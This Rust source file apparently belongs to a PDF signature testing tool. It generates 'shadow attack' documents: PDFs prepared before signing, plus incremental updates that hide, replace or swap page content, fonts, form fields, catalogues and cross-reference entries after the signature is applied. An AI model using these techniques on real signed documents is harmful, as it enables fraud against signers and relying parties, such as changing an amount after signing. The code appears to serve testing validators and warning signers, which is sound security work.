//! Shadow attacks: a document is prepared before somebody signs it, and an update that looks harmless raises what was
//! prepared.
//!
//! Hide: what covered the content goes away. Replace: what the content rests on is another. Hide and replace: a second
//! document inside comes forward. The prepared documents also show what a signer should be warned of.

use yinxin::pdf::{Dictionary, Object, Reference, Stream, StreamData};

use super::dictionary::stream;
use super::target::Target;
use super::{Attack, Error, drawn, nobody, uses};

const PAGES: &str = "<</Type/Pages/Kids[3 0 R]/Count 1>>";
pub(super) const OTHER: &str = "0 0 0 rg 0 0 999 999 re f";
/// An octet string of DER whose inside a reader of page content would execute.
const DRAWING_DER: &[u8] = b"\x30\x1c\x04\x1a\n0 0 0 rg 0 0 999 999 re f";

/// The number of the document's form, which all of them have; the field of its text is the one after it.
pub(super) const FORM: u32 = 5;

/// What a document time stamp certifies. Somebody who certifies it himself may let the same be done.
pub(crate) const CERTIFIED: &str = "shadow-certified-by-nobody";

/// Documents to be signed by somebody who sees nothing wrong with them, by the name of the attack.
pub(crate) fn prepared() -> Result<Vec<Attack>, Error> {
    let picture = form_stream("1 1 1 rg 0 0 300 300 re f");
    let two = "<</Type/Catalog/Pages 11 0 R/AcroForm 5 0 R>>";
    let cases = [
        (
            "hide-picture",
            page("/XObject<</X 10 0 R>>", "/X Do"),
            vec![picture.clone()],
        ),
        (
            "hide-layer",
            page("/Properties<</L 10 0 R>>", "/OC /L BDC 9 9 9 9 re f EMC"),
            vec!["<</Type/OCG/Name(a)>>".to_owned()],
        ),
        (
            "replace-font",
            page("/Font<</F 10 0 R>>", "BT /F 9 Tf (9) Tj ET"),
            vec!["<</Type/Font/Subtype/Type1/BaseFont/Courier>>".to_owned()],
        ),
        ("replace-field", page("", "9 9 9 9 re f"), vec![]),
        (
            "replace-field-picture-in-place",
            page("/XObject<</X 7 0 R>>", "/X Do"),
            vec![],
        ),
        (
            "hide-and-replace-catalogue",
            page("", "9 9 9 9 re f"),
            vec![
                two.to_owned(),
                "<</Type/Pages/Kids[12 0 R]/Count 1>>".to_owned(),
                "<</Type/Page/Parent 11 0 R/MediaBox[0 0 595 842]/Contents 13 0 R/Resources<<>>>>".to_owned(),
                format!("<</Length {}>>\nstream\n{OTHER}\nendstream", OTHER.len()),
            ],
        ),
        (
            "hide-and-replace-missing",
            page("/XObject<</X 30 0 R>>", "/X Do"),
            vec![],
        ),
        (
            "replace-list-of-two-uses",
            page("", "9 9 9 9 re f").map(|body| {
                body.replace("/Contents 4 0 R", "/Contents 10 0 R")
                    .replace("/Catalog", "/Catalog/DSS<</Certs 10 0 R>>")
            }),
            vec!["[4 0 R]".to_owned()],
        ),
    ];
    let made = cases.into_iter().map(|(name, page, further)| {
        let bodies: Vec<String> = page.into_iter().chain(further).collect();
        Attack::new(format!("shadow-{name}"), document(&bodies))
    });
    let mut made: Vec<Attack> = made.collect();
    made.push(Attack::new("shadow-hide-and-replace-offset", with_a_double()));
    made.push(Attack::new("shadow-hide-and-replace-size", beyond_size()));
    made.extend(uses::prepared());
    made.extend(drawn::prepared());
    let certified = nobody::certified(&document(&page("", "9 9 9 9 re f")))?;
    made.push(Attack::new(CERTIFIED, certified));
    Ok(made)
}

/// Raises what was prepared in a signed document of that name.
pub(crate) fn raise(name: &str, signed: &[u8]) -> Result<Attack, Error> {
    let target = Target::read(signed)?;
    for raise in [uses::raise, drawn::raise] {
        if let Some(bytes) = raise(name, &target)? {
            return Ok(Attack::new(name, bytes));
        }
    }
    let entries = |text: &[(&str, Object)]| {
        let filled = text
            .iter()
            .cloned()
            .fold(Dictionary::new(), |all, (key, value)| all.with(key, value));
        Object::Dictionary(filled)
    };
    let put = |number: u32, value: Object| target.updated(|update| Ok(update.put(Reference::new(number), &value)?));
    let bytes = match name {
        "shadow-hide-picture" => put(10, held_form(""))?,
        "shadow-hide-layer" => {
            let group = Object::Array(vec![Object::Reference(Reference::new(10))]);
            let state = entries(&[("OFF", group.clone())]);
            let layers = entries(&[("OCGs", group), ("D", state)]);
            let catalog = target.catalog.clone().with("OCProperties", layers);
            put(target.root.number, Object::Dictionary(catalog))?
        }
        "shadow-replace-font" => {
            let differences = Object::Array(vec![Object::Integer(57), Object::name("one")]);
            let encoding = entries(&[("Differences", differences)]);
            let font = [("Type", "Font"), ("Subtype", "Type1"), ("BaseFont", "Courier")];
            let mut font: Vec<_> = font.map(|(key, value)| (key, Object::name(value))).to_vec();
            font.push(("Encoding", encoding));
            put(10, entries(&font))?
        }
        "shadow-replace-field" => put(
            FORM,
            Object::Dictionary(target.form.clone().with("NeedAppearances", Object::Boolean(true))),
        )?,
        "shadow-replace-field-picture-in-place" => put(7, held_form(OTHER))?,
        "shadow-hide-and-replace-catalogue" => {
            target.appended(&[], &format!("/Root 10 0 R /Prev {}", target.startxref))
        }
        "shadow-hide-and-replace-missing" => put(30, held_form(OTHER))?,
        "shadow-replace-list-of-two-uses" => target.updated(|update| {
            let added = update.add(&stream(DRAWING_DER))?;
            let both = [Reference::new(4), added].map(Object::Reference).to_vec();
            Ok(update.put(Reference::new(10), &Object::Array(both))?)
        })?,
        "shadow-hide-and-replace-offset" => {
            let double = b"4 0 obj\n<</Length 25>>";
            let at = signed.windows(double.len()).position(|window| window == double);
            let at = at.ok_or("the double is not there")?;
            let mut bytes = signed.to_vec();
            let (size, following) = (target.next_number(), target.following());
            let section = format!("xref\n4 1\n{at:010} 00000 n \ntrailer\n<</Size {size} {following}>>\n");
            bytes.extend(format!("{section}startxref\n{}\n%%EOF\n", signed.len()).bytes());
            bytes
        }
        CERTIFIED => nobody::noted(&target)?,
        // An update that is signed states the true size: any update raises it.
        "shadow-hide-and-replace-size" => target.appended(&[], &target.following()),
        other => return Err(format!("no attack is called {other}").into()),
    };
    Ok(Attack::new(name, bytes))
}

/// Catalogue, pages, page, content, form, text field and its appearance, and two fonts or whatever is left free:
/// objects 1 to 9.
pub(super) fn page(resources: &str, content: &str) -> [String; 9] {
    let page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Annots[6 0 R]";
    let field = "<</Type/Annot/Subtype/Widget/FT/Tx/T(Amount)/V(100)/F 4/P 3 0 R/Rect[50 50 200 80]/AP<</N 7 0 R>>>>";
    [
        "<</Type/Catalog/Pages 2 0 R/AcroForm 5 0 R>>".to_owned(),
        PAGES.to_owned(),
        format!("{page}/Resources<<{resources}>>>>"),
        format!("<</Length {}>>\nstream\n{content}\nendstream", content.len()),
        "<</Fields[6 0 R]/DA(/Helv 0 Tf)>>".to_owned(),
        field.to_owned(),
        form_stream("0 1 0 rg 0 0 9 9 re f"),
        "null".to_owned(),
        "null".to_owned(),
    ]
}

pub(super) fn form_stream(content: &str) -> String {
    let entries = "/Type/XObject/Subtype/Form/BBox[0 0 300 300]";
    format!("<<{entries}/Length {}>>\nstream\n{content}\nendstream", content.len())
}

pub(super) fn held_form(content: &str) -> Object {
    let corners = [0, 0, 300, 300].map(Object::Integer).to_vec();
    Object::Stream(Stream {
        dictionary: Dictionary::new()
            .with("Type", Object::name("XObject"))
            .with("Subtype", Object::name("Form"))
            .with("BBox", Object::Array(corners)),
        data: StreamData::Held(content.as_bytes().to_vec()),
    })
}

/// A document of one revision whose objects, from number 1 on, have these bodies.
pub(super) fn document(bodies: &[String]) -> Vec<u8> {
    written(bodies, "", bodies.len() + 1)
}

/// The same with bytes before its cross-reference table, and a size of its own.
fn written(bodies: &[String], before_table: &str, size: usize) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n".to_vec();
    let mut table = format!("xref\n0 {}\n0000000000 65535 f \n", bodies.len() + 1);
    for (index, body) in bodies.iter().enumerate() {
        table += &format!("{:010} 00000 n \n", bytes.len());
        bytes.extend(format!("{} 0 obj\n{body}\nendobj\n", index + 1).bytes());
    }
    bytes.extend(before_table.bytes());
    let start = bytes.len();
    bytes.extend(format!("{table}trailer\n<</Size {size}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n").bytes());
    bytes
}

/// A second content of the page beside the one that the table names.
fn with_a_double() -> Vec<u8> {
    let double = format!(
        "4 0 obj\n<</Length {}>>\nstream\n{OTHER}\nendstream\nendobj\n",
        OTHER.len()
    );
    written(&page("", "9 9 9 9 re f"), &double, 10)
}

/// The page draws an object whose number lies beyond what the trailer calls the size: to readers it is missing, until
/// an update states a larger one (ISO 32000-2, table 15).
fn beyond_size() -> Vec<u8> {
    let bodies = page("/XObject<</X 40 0 R>>", "/X Do");
    let hidden = form_stream(OTHER);
    let object = format!("40 0 obj\n{hidden}\nendobj\n");
    let mut bytes = written(&bodies, &object, 10);
    let text = String::from_utf8_lossy(&bytes).into_owned();
    let (at, table) = (text.find("40 0 obj").unwrap_or(0), text.find("trailer").unwrap_or(0));
    bytes.splice(table..table, format!("40 1\n{at:010} 00000 n \n").bytes());
    bytes
}
